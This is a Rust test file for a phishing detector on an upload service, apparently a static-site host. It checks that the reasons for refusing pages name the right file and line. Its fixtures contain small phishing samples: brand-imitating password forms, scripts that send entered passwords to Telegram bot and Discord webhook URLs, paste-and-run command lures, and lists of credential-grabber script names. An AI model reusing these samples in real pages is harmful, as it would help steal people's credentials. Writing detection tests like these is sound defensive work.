//! The reasons reported to the publisher of a refused upload: all pages, several occurrences, the right file and line.

use dropleaf_content::{BundleTexts, source_lines};
use dropleaf_inspect::phishing::{File, Reason, Rules, Verdict, check};

use crate::support::{check_bundle, upload};

fn judged(files: &[(&str, &str)]) -> Verdict {
    let files: Vec<File<'_>> = files.iter().map(|(path, text)| File { path, text }).collect();
    check(&files, &Rules::builtin())
}

/// The files and lines where a rule hit.
fn places<'v>(verdict: &'v Verdict, rule: &str) -> Vec<(&'v str, usize)> {
    let of_rule = verdict.reasons.iter().filter(|reason| reason.rule == rule);
    of_rule.map(|reason| (reason.file.as_str(), reason.line)).collect()
}

fn of<'v>(verdict: &'v Verdict, rule: &str) -> Option<&'v Reason> {
    verdict.reasons.iter().find(|reason| reason.rule == rule)
}

const HARVEST: &str =
    "<title>PayPal login</title>\n<form action='https://a.invalid/x'>\n<input type=password></form>";

#[test]
fn every_page_that_is_refused_is_told_of() {
    let verdict = judged(&[
        ("a.html", HARVEST),
        ("about.html", "<title>About us</title><p>We make tea.</p>"),
        ("b/index.html", &format!("\n{HARVEST}")),
    ]);
    assert!(verdict.refused);
    assert_eq!(places(&verdict, "sent-to-other-site"), [("a.html", 2), ("b/index.html", 3)]);
    assert_eq!(places(&verdict, "brand-in-title"), [("a.html", 1), ("b/index.html", 2)]);
    assert_eq!(places(&verdict, "password-field"), [("a.html", 3), ("b/index.html", 4)]);
}

#[test]
fn the_strongest_page_comes_first_and_pages_that_pass_are_left_out() {
    let worse = HARVEST.replace("https://a.invalid/x", "https://api.telegram.org/bot1:A/sendMessage");
    let weak = "<form><input type=password></form>";
    let verdict = judged(&[("a.html", HARVEST), ("demo.html", weak), ("z.html", &worse)]);
    assert_eq!((verdict.reasons[0].rule, verdict.reasons[0].file.as_str()), ("sent-to-bot", "z.html"));
    let first_of_a = verdict.reasons.iter().position(|reason| reason.file == "a.html").unwrap();
    assert!(verdict.reasons[first_of_a..].iter().all(|reason| reason.file == "a.html"));
    let alone = judged(&[("demo.html", weak)]);
    assert!(!alone.refused && !alone.reasons.is_empty());
}

#[test]
fn a_rule_names_up_to_three_places() {
    let page = "<title>x</title>\n<form action='https://a.invalid/'>\n<input type=password>\n</form>\n\
                <form action='https://b.invalid/'>\n<input type=password>\n<input type=password>\n\
                <input type=password></form>";
    let verdict = judged(&[("index.html", page)]);
    assert_eq!(places(&verdict, "sent-to-other-site"), [("index.html", 2), ("index.html", 5)]);
    let whys: Vec<&str> = verdict.reasons.iter().map(|reason| reason.why.as_str()).collect();
    assert!(whys[0].contains("a.invalid") && whys[1].contains("b.invalid"), "{whys:?}");
    assert_eq!(places(&verdict, "password-field"), [("index.html", 3), ("index.html", 6), ("index.html", 7)]);
}

#[test]
fn many_pages_get_fifty_reasons_together_and_each_its_strongest() {
    let names: Vec<String> = (10..30).map(|number| format!("p{number}.html")).collect();
    let files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), HARVEST)).collect();
    let verdict = judged(&files);
    assert_eq!(verdict.reasons.len(), 50);
    assert_eq!(places(&verdict, "sent-to-other-site").len(), 17);
    let many: Vec<(&str, &str)> = files[..12].to_vec();
    assert_eq!(places(&judged(&many), "sent-to-other-site").len(), 12);
}

#[test]
fn what_stands_in_a_script_has_the_scripts_name_and_line() {
    let script = "// The page\n\nconst root = document.body;\nroot.innerHTML =\n  '<input type=\"password\">';\n\n\
                  function send(value) {\n  const body = value;\n  fetch('https://api.telegram.org/bot1:A/sendMessage', { body });\n}\n";
    let page = "<!doctype html>\n<title>Tea</title>\n<p>Hello</p>\n<script src=\"js/app.js\"></script>\n";
    let other =
        "<title>More tea</title><script src=../js/util.js></script><script src=../js/app.js></script>";
    let verdict = judged(&[
        ("index.html", page),
        ("js/app.js", script),
        ("js/util.js", "export const x = 1;\n".repeat(30).as_str()),
        ("more/tea.html", other),
    ]);
    assert!(verdict.refused);
    assert_eq!(places(&verdict, "sent-to-bot"), [("js/app.js", 9)]);
    assert_eq!(places(&verdict, "password-field"), [("js/app.js", 5)]);
}

#[test]
fn hosts_that_scripts_name_are_not_the_text_of_the_page() {
    for host in ["https://discord.com/api/webhooks/1/x", "https://api.telegram.org/bot1:A/sendMessage"] {
        let page = format!(
            "<title>Tea</title>\n<form id=f><input type=password></form>\n<script>\nconst u = '{host}';\n\
             f.onsubmit = () => fetch(u, {{ body: f.querySelector('input[type=\"password\"]').value }});\n</script>"
        );
        let verdict = judged(&[("index.html", &page)]);
        assert!(verdict.refused && of(&verdict, "sent-to-bot").is_some());
        assert!(of(&verdict, "brand-text").is_none(), "{:?}", verdict.reasons);
    }
}

#[test]
fn faint_signs_of_a_name_have_their_own_words() {
    let about = "<title>How to protect your PayPal account: tutorial</title>\
                 <form action='https://a.invalid/'><input name=wpa_psw placeholder='Wi-Fi password'></form>";
    let verdict = judged(&[("index.html", about)]);
    assert!(of(&verdict, "brand-text").is_none(), "{:?}", verdict.reasons);
    let reason = of(&verdict, "title-about-brand").unwrap();
    assert!(reason.why.starts_with("The title mentions PayPal"), "{reason:?}");

    let like = "<title>Acornbank portal</title><img src='https://www.acornbank.example/logo.png'>\
                <form action='https://a.invalid/'><input type=password></form>";
    let verdict = judged(&[("index.html", like)]);
    let reason = of(&verdict, "site-in-title").unwrap();
    assert!(reason.why.contains("acornbank.example"), "{reason:?}");
}

#[test]
fn a_title_about_a_brand_earns_nothing_beside_a_password() {
    for words in ["login", "dashboard", "report", "clone (tutorial)", "account review"] {
        let page = format!(
            "<title>PayPal {words}</title><form id=f><input name=email><input type=password></form>\
             <script>f.onsubmit=()=>fetch(atob(f.dataset.to))</script>"
        );
        let verdict = judged(&[("index.html", &page)]);
        assert!(
            verdict.refused && of(&verdict, "brand-in-title").is_some(),
            "{words}: {:?}",
            verdict.reasons
        );
    }
}

#[test]
fn reasons_say_what_the_page_hides_or_tells_the_reader() {
    let form =
        |title: &str, fields: &str| format!("<title>{title}</title><form action=next.php>{fields}</form>");
    let crossed =
        "<input name=xName placeholder=Name><input name=xysemailx placeholder=Email><input type=password>";
    for (title, fields, how) in [
        ("Sign in", "<input name=1><input type=password name=2>", "a number for a name"),
        ("Sign 1n", "<input name=a><input type=password name=b>", "written with other characters"),
        ("Update", crossed, "begin with an x"),
    ] {
        let verdict = judged(&[("index.html", &form(title, fields))]);
        let why = &of(&verdict, "garbled-names").unwrap().why;
        assert!(why.contains(how), "{title}: {why}");
    }
    let run = "<p>Hold the Windows key and press R. Press Ctrl + V. Press Enter.</p>";
    for (page, how) in [
        (format!("<h1>Verify you are human</h1>{run}"), "to prove that they are human"),
        (format!("<h1>How to fix</h1>{run}"), "to solve a problem with the page"),
        (format!("{run}<script>navigator.clipboard.writeText(x)</script>"), "that a script provides"),
        (run.to_owned(), "step by step"),
    ] {
        let verdict = judged(&[("index.html", &page)]);
        let why = &of(&verdict, "command-steps").unwrap().why;
        assert!(verdict.refused && why.contains(how), "{page}: {why}");
    }
}

#[test]
fn a_common_name_of_a_program_needs_something_beside_it() {
    let page = |action: &str, text: &str| {
        format!(
            "<title>Club</title>{text}<form action={action} method=post><input name=user><input type=password></form>"
        )
    };
    for action in ["1.php", "db_insert.php", "send.php", "next.php", "step2.php", "write.php", "wait.asp"] {
        let verdict = judged(&[("index.html", &page(action, ""))]);
        assert!(!verdict.refused && of(&verdict, "posted-to-common-name").is_some(), "{action}");
        let pressing = page(action, "<p>Your account has been suspended.</p>");
        assert!(judged(&[("index.html", &pressing)]).refused, "{action}");
    }
    for action in ["victim.php", "telegram.php", "grabber.php", "send_cards.php"] {
        let verdict = judged(&[("index.html", &page(action, ""))]);
        assert!(verdict.refused && of(&verdict, "posted-to-trap").is_some(), "{action}");
    }
}

#[test]
fn marks_of_kits_are_named() {
    let page = "<title>PayPal login</title><form><input type=password></form>\n<script>\n// made with Evilginx\n</script>";
    let verdict = judged(&[("index.html", page)]);
    let reason = of(&verdict, "kit-marks").unwrap();
    assert!(reason.why.contains("\"Evilginx\"") && reason.fix.starts_with("Remove it"), "{reason:?}");
    assert_eq!(reason.line, 3);
}

#[test]
fn a_demonstration_passes_by_either_way_that_the_remedy_names() {
    let copy = "<title>PayPal login</title><form><input name=user><input type=password></form>";
    let verdict = judged(&[("index.html", copy)]);
    assert!(verdict.refused);
    assert!(of(&verdict, "brand-in-title").unwrap().fix.contains("an invented name, or disable the fields"));
    assert!(!judged(&[("index.html", &copy.replace("PayPal", "Acornpay"))]).refused);
    assert!(!judged(&[("index.html", &copy.replace("<input", "<input disabled"))]).refused);
}

#[test]
fn the_line_of_a_markdown_source_is_found() {
    let source = "# Notes\n\nHello.\n\nVirus alert: your computer is infected.\n\n\
                  Do not restart. Call support: **1-888-555-0199**\n";
    let bundle = upload("lure.md", source.as_bytes().to_vec()).unwrap();
    let verdict = check_bundle(&bundle, &Rules::builtin());
    assert!(verdict.refused);
    let lines: Vec<usize> = verdict.reasons.iter().map(|reason| reason.line).collect();
    let texts = BundleTexts::of_pages(&bundle).unwrap();
    let page = texts.files.iter().find(|file| file.path == "index.html").unwrap();
    assert_eq!(source_lines(&page.text, source, &lines)[0], Some(7), "{:?}", verdict.reasons);
}
